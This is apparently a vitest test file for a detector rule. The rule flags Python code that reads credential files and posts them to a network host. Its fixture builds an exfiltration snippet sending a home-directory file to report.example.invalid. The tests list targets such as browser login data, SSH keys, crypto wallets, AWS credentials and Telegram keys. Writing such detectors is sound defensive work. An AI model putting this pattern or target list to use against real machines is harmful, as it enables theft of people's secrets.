import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { read } from '../python/reading.js';

/** What the rule says of a function that has to be called, and that sends what lies at this path. */
async function severities(path: string): Promise<readonly string[]> {
  const { facts } = await read(`import os\nimport requests\n\n\ndef report():\n    with open(os.path.expanduser("~/${path}"), "rb") as source:\n        requests.post("https://report.example.invalid", data=source.read())\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

test.each(['.config/google-chrome/Default/Login Data', '.config/discord/Local Storage/leveldb/', '.local/share/Telegram Desktop/tdata/key', '.bitcoin/wallet.dat', 'secrets.kdbx', '.ssh/id_ed25519'])('a function that sends %s warns, whoever calls it', async (path) => {
  expect(await severities(path)).toEqual(['medium']);
});

test.each(['.mozilla/firefox/own/cookies.sqlite', '.aws/credentials', '.netrc', '.bash_history'])('what may be the job of a function, such as to send %s, stays a note', async (path) => {
  expect(await severities(path)).toEqual(['low']);
});
